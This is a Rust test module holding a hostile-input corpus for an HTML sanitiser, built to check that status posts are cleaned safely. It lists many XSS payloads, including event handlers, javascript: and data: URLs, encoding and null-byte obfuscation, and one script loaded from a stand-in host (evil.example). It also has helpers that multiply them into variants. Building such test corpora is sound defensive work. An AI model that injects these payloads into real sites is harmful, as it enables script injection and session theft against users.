//! The hostile corpus for the status HTML sanitiser, shared by the native test
//! (`domain_rich_text.rs`) and the Chromium one (`browser_rich_text.rs`): XSS vectors and
//! tokenizer tricks, each in case and entity-encoding variants, each wrapped as Mastodon
//! would (bare, in a paragraph, in a mention, in a link), plus pairs of vectors and the
//! lines of `fixtures/hostile_html.txt`.
#![allow(dead_code)]

/// XSS vectors and tokenizer tricks. `{U}` is replaced by a benign address.
pub const SEEDS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert('</scr'+'ipt>')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script>alert(1)",
    "<script",
    "<script>/*<!--*/alert(1)//--></script>",
    "<!--<script>-->alert(1)<!--</script>-->",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><script>alert(1)</script>-->",
    "<!--->alert(1)<script>x</script>",
    "<!-- -- ><script>alert(1)</script> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\">",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JAVASCRIPT:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java\0script:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#9;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#106avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"javascript&#58;alert(1)\">x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=`javascript:alert(1)`>x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"VBScript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"DaTa:text/html,x\">x</a>",
    "<a href=\"&#100;ata:text/html,x\">x</a>",
    "<a href=\"\u{202E}javascript:alert(1)\">x</a>",
    "<a href=\"java\u{202E}script:alert(1)\">x</a>",
    "<a href=\"{U}\" onclick=\"alert(1)\">x</a>",
    "<a href=\"{U}\" onmouseover=alert(1) style=\"position:fixed;inset:0\">x</a>",
    "<a href=\"{U}\"onclick=alert(1)>x</a>",
    "<a href=\"{U}\" class=\"mention\" onclick=alert(1)>@x</a>",
    "<a href=\"{U}\" class=\"hashtag\" style=\"x\">#x</a>",
    "<a href=\"{U}\"\" onclick=\"alert(1)\">x</a>",
    "<a href={U} onclick=alert(1)>x</a>",
    "<a href=\"{U}&quot; onclick=&quot;alert(1)\">x</a>",
    "<a href=\"{U}&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;\">x</a>",
    "<a href=\"{U}\" target=\"_self\" rel=\"opener\">x</a>",
    "<a\nhref=\"javascript:alert(1)\"\n>x</a>",
    "<a/href=\"javascript:alert(1)\">x</a>",
    "<a href=\"javascript:alert(1)\" href=\"{U}\">x</a>",
    "<a href = javascript:alert(1)>x</a>",
    "<span class=\"h-card\"><a href=\"javascript:alert(1)\" class=\"u-url mention\">@x</a></span>",
    "<span class=\"invisible\"><script>alert(1)</script></span>",
    "<span class=\"ellipsis\" onclick=alert(1)>x</span>",
    "<span style=\"color:red\" onmouseover=alert(1)>x</span>",
    "<p onclick=alert(1)>x</p>",
    "<br onclick=alert(1)>",
    "<p style=\"x\" class=\"y\" id=z>x</p>",
    "<b onmouseover=alert(1)>x</b>",
    "<b title=\"<script>alert(1)</script>\">x</b>",
    "<b title='\"><script>alert(1)</script>'>x</b>",
    "<b title=\"x\" onclick='alert(1)' `a`=`b`>x</b>",
    "<<b>script>alert(1)<</b>/script>",
    "< script>alert(1)</script>",
    "<\0script>alert(1)</script>",
    "<scr\0ipt>alert(1)</script>",
    "<script\0>alert(1)</script>",
    "\0<script>alert(1)</script>",
    "<a href=\"{U}\">\0\u{1}\u{1B}x</a>",
    "\u{202E}<a href=\"{U}\">\u{202E}exe.txt</a>",
    "\u{2066}\u{2067}\u{2068}\u{2069}\u{200E}\u{200F}\u{061C}",
    "<p>\"'`<>&</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "<a href=\"{U}\"><a href=\"javascript:alert(1)\">x</a></a>",
    "<p><a href=\"{U}\">x<p>y</a></p>",
    "</p></a></span><script>alert(1)</script>",
    "<a href=\"{U}\"><span class=\"invisible\">https://</span><span class=\"ellipsis\">x</span></a>",
    "<plaintext><script>alert(1)</script>",
    "<listing><script>alert(1)</script></listing>",
    "<select><template><script>alert(1)</script></template></select>",
    "<table><td background=\"javascript:alert(1)\">x</td></table>",
    "<isindex action=javascript:alert(1) type=image>",
    "<x onclick=alert(1)>x</x>",
    "<a href=\"{U}\" class=\"mention hashtag\" rel=\"tag\">#<span>t</span></a>",
    "<a href=\"https://x.example/\u{A0}javascript:alert(1)\">x</a>",
    "<a href=\"http:&#x2F;&#x2F;x.example\">x</a>",
    "<a href=\"https://x.example/\"><img src=x onerror=alert(1)></a>",
];

pub const BENIGN: &str = "https://example.com/a?b=1&amp;c=2";

pub fn wrap(wrapper: usize, inner: &str) -> String {
    match wrapper {
        0 => inner.to_string(),
        1 => format!("<p>{inner}</p>"),
        2 => format!(
            "<p><span class=\"h-card\"><a href=\"https://example.com/@u\" class=\"u-url mention\">@{inner}</a></span></p>"
        ),
        _ => format!("<p>see <a href=\"{BENIGN}\" rel=\"nofollow\">{inner}</a> ok</p>"),
    }
}

fn alternate_case(s: &str) -> String {
    s.chars()
        .enumerate()
        .map(|(i, c)| {
            if i % 2 == 0 {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect()
}

/// The variants of one seed, each with whether it must be all text (no tags).
pub fn variants(seed: &str) -> Vec<(String, bool)> {
    let seed = seed.replace("{U}", BENIGN);
    vec![
        (seed.clone(), false),
        (seed.to_ascii_uppercase(), false),
        (alternate_case(&seed), false),
        // Encoded `<`: stays text.
        (seed.replace('<', "&lt;"), true),
        // Double-encoded: the text `&lt;`.
        (seed.replace('&', "&amp;").replace('<', "&amp;lt;"), true),
        // Cut in the middle: unclosed everything.
        (seed.chars().take(seed.chars().count() / 2).collect(), false),
    ]
}

/// Every input: seeds × variants × wrappers, pairs of seeds, the fixture lines × wrappers,
/// and the Big List of Naughty Strings (the `naughty-strings` crate) × wrappers.
pub fn all_inputs() -> Vec<String> {
    let mut out = vec![];
    for seed in SEEDS {
        for (variant, _) in variants(seed) {
            for wrapper in 0..4 {
                out.push(wrap(wrapper, &variant));
            }
        }
    }
    for (i, a) in SEEDS.iter().enumerate() {
        let b = SEEDS[(i * 7 + 3) % SEEDS.len()];
        out.push(wrap(i % 4, &format!("{a}{b}").replace("{U}", BENIGN)));
    }
    for line in include_str!("../fixtures/hostile_html.txt")
        .lines()
        .filter(|l| !l.is_empty() && !l.starts_with("##"))
    {
        for wrapper in 0..4 {
            out.push(wrap(wrapper, line));
        }
    }
    for naughty in naughty_strings::BLNS {
        for wrapper in 0..4 {
            out.push(wrap(wrapper, naughty));
        }
    }
    out
}
